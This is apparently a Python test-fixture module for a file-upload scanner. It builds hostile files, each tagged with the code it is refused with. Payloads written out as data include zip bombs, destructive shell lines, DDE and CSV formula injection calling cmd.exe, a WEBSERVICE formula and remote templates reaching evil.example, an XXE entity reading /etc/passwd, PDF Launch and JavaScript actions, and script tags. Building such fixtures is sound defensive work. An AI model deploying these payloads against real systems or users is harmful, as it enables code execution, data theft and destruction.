"""Hostile files, each with the code that it is refused with. Nothing here runs: it only looks as what runs does."""

from __future__ import annotations

import zipfile
import zlib
from dataclasses import dataclass, field
from io import BytesIO

from corpus import files_made as made
from corpus.files_made import document, jpeg, object_list, office, open_document, pdf, png, relation

SCRIPT = b"<script>alert(document.cookie)</script>"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile file: what it is called, what is in it, and the code it is refused with."""

    name: str
    code: str
    content: bytes = field(repr=False)


def _bomb() -> bytes:
    return office(word__media__x=b"<x>" + bytes(30_000_000).replace(b"\0", b" ") + b"</x>")


def _many() -> bytes:
    return b"PK\x03\x04" + b"PK\x01\x02" * 10_001


def _overlapping() -> bytes:
    """Ten parts whose list says that each is the same one, as in the bombs that unpack to petabytes."""
    whole = bytearray(office(**{f"word__part{number}": "<x>" + "y" * 40_000 + "</x>" for number in range(10)}))
    with zipfile.ZipFile(BytesIO(bytes(whole))) as archive:
        place = archive.getinfo("word/part0.xml").header_offset
    at, listed = 0, []
    while (at := whole.find(b"PK\x01\x02", at)) >= 0:
        listed.append(at)
        at += 4
    for each in listed[2:]:
        whole[each + 42 : each + 46] = place.to_bytes(4, "little")
        whole[each + 20 : each + 24] = (5_000).to_bytes(4, "little")
    return bytes(whole)


def _garbled() -> bytes:
    """A document whose list of parts unpacks to nothing."""
    whole = bytearray(office())
    at = whole.index(b"[Content_Types].xml") + len("[Content_Types].xml")
    whole[at : at + 5] = b"\0\0\0\1\1"
    return bytes(whole)


def _lying() -> bytes:
    """A part whose list says that it is small."""
    whole = bytearray(office(word__x="<x>" + "y" * 100_000 + "</x>"))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(whole)


def _nested(depth: int) -> bytes:
    found = office()
    for _ in range(depth):
        found = made.packed(
            {
                "[Content_Types].xml": f'<Types><Override ContentType="{made.WORD}"/></Types>',
                "word/embeddings/inner.docx": found,
            }
        )
    return found


def _locked_part() -> bytes:
    whole = bytearray(office())
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := whole.find(magic, at)) >= 0:
            whole[at + place] |= 1
            at += 4
    return bytes(whole)


def _renamed(old: str, new: str) -> bytes:
    """A document with a part of another name, of the same length, as no writer would write it."""
    assert len(old) == len(new)
    return office(**{old: "<x/>"}).replace(f"{old}.xml".encode(), f"{new}.xml".encode())


def _word_fields(*pieces: str) -> bytes:
    return office(**{"word/document.xml": document(made.field(*pieces))})


def _related(kind: str, target: str) -> bytes:
    return office(**{"word/_rels/document.xml.rels": relation(kind, target)})


def _old(name: str, *names: str, streams: bytes = b"") -> bytes:
    return made.compound(name, *names, streams=streams)


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_FIB = b"\xec\xa5\xc1\x00" + bytes(6)

PROGRAMS = [
    Hostile("program.pdf", "file-type", b"MZ\x90\x00" + bytes(60)),
    Hostile("program.docx", "file-type", b"\x7fELF\x02\x01\x01" + bytes(60)),
    Hostile("page.pdf", "file-type", b"<!DOCTYPE html><html>" + SCRIPT + b"</html>"),
    Hostile("page.txt", "file-mixed", b"\xef\xbb\xbf\n <body onload=alert(1)>"),
    Hostile("drawing.png", "file-type", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    Hostile("drawing.txt", "file-type", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
    Hostile("shortcut.pdf", "file-type", b"L\0\0\0\x01\x14\x02\0" + bytes(8) + b"\xc0" + bytes(60)),
    Hostile("link.txt", "file-type", b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n"),
    Hostile("run.txt", "file-mixed", b"#!/bin/sh\nrm -rf /\n"),
    Hostile("run.bat.txt", "file-mixed", b"@echo off\r\ndel *.*\r\n"),
    Hostile("letter.txt", "file-type", b"{\\rtf1{\\object\\objocx}}"),
    Hostile("archive.docx", "file-type", made.packed({"a.exe": b"MZ"})),
    Hostile("archive.pdf", "file-type", b"Rar!\x1a\x07\x01\x00" + bytes(60)),
    Hostile("archive.odt", "file-type", b"7z\xbc\xaf\x27\x1c" + bytes(60)),
    Hostile("gif-and-script.png", "file-type", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
    Hostile("utf-16.txt", "file-type", "<script>alert(1)</script>".encode("utf-16")),
    Hostile("noise.jpg", "file-type", bytes(range(256)) * 4),
]

ARCHIVES = [
    Hostile("bomb.docx", "file-swells", _bomb()),
    Hostile("many-parts.docx", "file-swells", _many()),
    Hostile("overlapping.docx", "file-swells", _overlapping()),
    Hostile("lying.docx", "file-damaged", _lying()),
    Hostile("garbled.docx", "file-type", _garbled()),
    Hostile("nested.docx", "file-holds-files", _nested(4)),
    Hostile("archive-inside.docx", "file-holds-files", office(**{"word/media/x.png": made.packed({"a": b"a"})})),
    Hostile("program-inside.docx", "file-holds-files", office(**{"word/media/x.png": b"MZ\x90\x00"})),
    Hostile("locked-part.docx", "file-locked", _locked_part()),
    Hostile("path.docx", "file-mixed", _renamed("aa/aa/evil", "../../evil")),
    Hostile("twice.docx", "file-mixed", _renamed("word/documenx", "word/document")),
    Hostile("before.docx", "file-type", b"MZ\x90\x00" + office()),
    Hostile("after.docx", "file-mixed", office() + SCRIPT),
    Hostile("comment.docx", "file-mixed", made.packed({"[Content_Types].xml": made.WORD}, comment=SCRIPT)),
    Hostile("cut-short.docx", "file-type", office()[:-40]),
    Hostile("pdf-too.docx", "file-mixed", made.packed({"%PDF-1.7": b"", "[Content_Types].xml": made.WORD})),
]

OFFICE = [
    Hostile("macros.docx", "file-macros", office(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    Hostile("macros.docm", "file-macros", office("application/vnd.ms-word.document.macroEnabled.main+xml")),
    Hostile("macros.xlsm", "file-macros", office("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
    Hostile("macro-sheet.xlsx", "file-macros", office(made.SHEET, xl__macrosheets__sheet1="<x/>")),
    Hostile("control.docx", "file-macros", office(word__activeX__activeX1="<x/>")),
    Hostile("object.docx", "file-holds-files", office(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
    Hostile("object-related.docx", "file-holds-files", _related("oleObject", "mhtml:http://evil.example!x-usc")),
    Hostile("template.docx", "file-links", _related("attachedTemplate", "https://evil.example/t.dotm")),
    Hostile("template-share.docx", "file-links", _related("attachedTemplate", "\\\\evil.example\\share\\t.dotm")),
    Hostile("picture-far.docx", "file-links", _related("image", "http://evil.example/x.png")),
    Hostile(
        "mode-spelt.docx",
        "file-links",
        office(**{"word/_rels/document.xml.rels": relation("image", "http://evil.example", "&#69;xternal")}),
    ),
    Hostile("frame.docx", "file-links", _related("frame", "//evil.example/x")),
    Hostile("link-runs.docx", "file-links", _related("hyperlink", "javascript:alert(1)")),
    Hostile("link-tool.docx", "file-links", _related("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    Hostile("dde.docx", "file-links", _word_fields(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    Hostile("dde-split.docx", "file-links", _word_fields(" D", "DE", "AUTO ", "c:\\\\cmd.exe")),
    Hostile("dde-spelt.docx", "file-links", _word_fields(" &#68;&#x44;E c:\\\\cmd.exe")),
    Hostile(
        "dde-simple.docx",
        "file-links",
        office(**{"word/document.xml": document('<w:fldSimple w:instr=" DDE cmd x"/>')}),
    ),
    Hostile("include.docx", "file-links", _word_fields(' INCLUDEPICTURE "http://evil.example/x"')),
    Hostile(
        "dde.xlsx", "file-links", office(made.SHEET, xl__externalLinks__externalLink1="<ddeLink ddeService='cmd'/>")
    ),
    Hostile(
        "entities.docx", "file-damaged", office(word__x="<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x/>")
    ),
    Hostile("utf-16.docx", "file-damaged", office(word__x="<x/>".encode("utf-16"))),
    Hostile("utf-7.docx", "file-damaged", office(word__x="<?xml version='1.0' encoding='utf-7'?><x/>")),
    Hostile("locked.docx", "file-locked", made.compound("EncryptedPackage", "EncryptionInfo")),
]

OPEN = [
    Hostile("macros.odt", "file-macros", open_document(Basic__Standard__Module1_xml="<x/>")),
    Hostile("script.odt", "file-macros", open_document('<script:event-listener script:event-name="dom:load"/>')),
    Hostile("renamed-script.odt", "file-macros", open_document("<\u0153:event-listener xmlns:\u0153='s'/>")),
    Hostile("dde.ods", "file-links", open_document("<office:dde-source/>", mimetype=made.ODS)),
    Hostile("picture-far.odt", "file-links", open_document('<draw:image xlink:href="http://evil.example/x"/>')),
    Hostile("section-far.odt", "file-links", open_document("<text:section-source xlink:href='\\\\evil\\x'/>")),
    Hostile("link-runs.odt", "file-links", open_document('<text:a xlink:href="vnd.sun.star.script:x"/>')),
    Hostile("locked.odt", "file-locked", open_document(manifest="<manifest:encryption-data/>")),
    Hostile("object.odt", "file-holds-files", open_document(Object1=b"\xd0\xcf\x11\xe0" + bytes(20))),
    Hostile("bare.odt", "file-damaged", made.packed({"mimetype": made.ODT})),
]

OLDER = [
    Hostile("macros.doc", "file-macros", _old("WordDocument", "Macros", "VBA")),
    Hostile("macros.xls", "file-macros", _old("Workbook", "_VBA_PROJECT_CUR")),
    Hostile(
        "macro-sheet.xls", "file-macros", _old("Workbook", streams=made.book((0x85, bytes(5) + b"\x01" + bytes(6))))
    ),
    Hostile("locked.xls", "file-locked", _old("Workbook", streams=made.book((0x2F, bytes(6))))),
    Hostile("locked.doc", "file-locked", _old("WordDocument", streams=_FIB + b"\x00\x01")),
    Hostile("object.doc", "file-holds-files", _old("WordDocument", "\x01Ole10Native")),
    Hostile("object.xls", "file-holds-files", _old("Workbook", "MBD0018D4CE")),
    Hostile("dde.doc", "file-links", _old("WordDocument", streams=b"\x13 DDEAUTO c:\\cmd.exe \x15")),
    Hostile("cut-short.doc", "file-damaged", _old("WordDocument")[:900] + "WordDocument".encode("utf-16-le")),
]

PDFS = [
    Hostile("script.pdf", "file-runs", pdf(JS, catalog=b"/OpenAction 5 0 R")),
    Hostile("script-spelt.pdf", "file-runs", pdf(JS.replace(b"JavaScript", b"J#61v#61Scr#69pt"))),
    Hostile("script-commented.pdf", "file-runs", pdf(JS.replace(b"/S ", b"/S%x\n%y\n"))),
    Hostile("script-in-no-encoding.pdf", "file-runs", pdf(JS.replace(b"/S ", b"/S%\xff\xfe\n"))),
    Hostile("script-packed.pdf", "file-runs", pdf(object_list(n6=b"<< /A 1 >>", n7=JS))),
    Hostile("script-apart.pdf", "file-runs", pdf(b"<< /S 6 0 R /JS (x) >>", b"/JavaScript")),
    Hostile("script-named.pdf", "file-runs", pdf(catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>")),
    Hostile("script-on-page.pdf", "file-runs", pdf(catalog=b"/AA << /WC << /S/JavaScript /JS (x) >> >>")),
    Hostile("launch.pdf", "file-runs", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    Hostile("launch-spelt.pdf", "file-runs", pdf(b"<< /#53 /L#61unch /F (cmd.exe) >>")),
    Hostile("opens-a-page.pdf", "file-runs", pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>")),
    Hostile("opens-by-number.pdf", "file-runs", pdf(b"<< /S /URI /URI (http://e) >>", catalog=b"/OpenAction 5 0 R")),
    Hostile("opens-packed.pdf", "file-runs", pdf(object_list(n9=b"<< /S/URI >>"), catalog=b"/OpenAction 9 0 R")),
    Hostile("sends.pdf", "file-runs", pdf(b"<< /S /SubmitForm /F (http://evil.example) >>")),
    Hostile("form-xfa.pdf", "file-runs", pdf(catalog=b"/AcroForm << /XFA [(a) 5 0 R] >>")),
    Hostile("film.pdf", "file-runs", pdf(b"<< /Type /Annot /Subtype /RichMedia >>")),
    Hostile("elsewhere.pdf", "file-links", pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>")),
    Hostile("file-inside.pdf", "file-holds-files", pdf(b"<< /Type /Filespec /EF << /F 6 0 R >> >>")),
    Hostile("file-inside-packed.pdf", "file-holds-files", pdf(object_list(n6=b"<< /EmbeddedFiles 7 0 R >>"))),
    Hostile("locked.pdf", "file-locked", pdf(trailer=b"/Encrypt 5 0 R")),
    Hostile("junk-before.pdf", "file-type", SCRIPT + pdf()),
    Hostile("words-before.pdf", "file-mixed", b"Dear officer,\n%PDF-1.7\n"),
    Hostile("page-after.pdf", "file-mixed", pdf(tail=SCRIPT)),
    Hostile("archive-too.pdf", "file-mixed", pdf(tail=made.packed({"a.exe": b"MZ"}, comment=b"\n%%EOF"))),
    Hostile("cut-short.pdf", "file-damaged", pdf()[:200]),
    Hostile("list-bomb.pdf", "file-swells", pdf(object_list(n6=b"0 " * 34_000_000))),
    Hostile("list-unusual.pdf", "file-damaged", pdf(object_list(n6=JS).replace(b"/FlateDecode", b"/LZWDecode"))),
    Hostile("list-broken.pdf", "file-damaged", pdf(object_list(n6=JS).replace(b"\nstream\n", b"\nstream\nxx"))),
]

PICTURES = [
    Hostile("huge.png", "file-pixels", png(60_000, 60_000)),
    Hostile("long.png", "file-pixels", png(40_000, 1)),
    Hostile("nothing.png", "file-damaged", png(0, 5)),
    Hostile("page-after.png", "file-mixed", png(tail=b"<html>" + SCRIPT)),
    Hostile("page-inside.png", "file-mixed", png(1, 1, (b"tEXt", b"Comment\0" + SCRIPT))),
    Hostile("archive-too.png", "file-mixed", png(tail=made.packed({"a": b"a"}))),
    Hostile("words-bomb.png", "file-swells", png(1, 1, (b"zTXt", b"a\0\0" + zlib.compress(bytes(20_000_000))))),
    Hostile("cut-short.png", "file-damaged", png()[:-6]),
    Hostile("changed.png", "file-damaged", png().replace(b"IDAT", b"IDAX")),
    Hostile("huge.jpg", "file-pixels", jpeg(65_000, 65_000)),
    Hostile("cut-short.jpg", "file-damaged", jpeg(end=b"")),
    Hostile("no-size.jpg", "file-damaged", jpeg()[:20] + b"\xff\xda\x00\x08" + bytes(8) + b"\xff\xd9"),
    Hostile("page-inside.jpg", "file-mixed", jpeg(comment=SCRIPT)),
    Hostile("archive-too.jpg", "file-mixed", jpeg(tail=made.packed({"a": b"a"}))),
    Hostile("pdf-too.jpg", "file-mixed", jpeg(comment=b"%PDF-1.7")),
]

TEXTS = [
    Hostile("dde.csv", "file-links", b"name,sum\n\"=cmd|'/c calc'!A1\",1\n"),
    Hostile("fetches.csv", "file-links", b'a,=WEBSERVICE("http://evil.example/?"&A1)\n'),
    Hostile("nul.csv", "file-type", b"a,b\0\n"),
    Hostile("bell.txt", "file-type", b"hello\x07"),
    Hostile("archive-too.txt", "file-type", b"words" + made.packed({"a": b"a"})),
]

VIRUSES = [
    Hostile("eicar.txt", "file-virus", made.EICAR),
    Hostile("eicar.docx", "file-virus", office(**{"word/media/x.png": made.EICAR})),
    Hostile("eicar.pdf", "file-virus", pdf(b"<< /Length 68 >>\nstream\n" + made.EICAR + b"\nendstream")),
]
"""Fit but for what a scanner finds in them."""

HOSTILE = [*PROGRAMS, *ARCHIVES, *OFFICE, *OPEN, *OLDER, *PDFS, *PICTURES, *TEXTS]
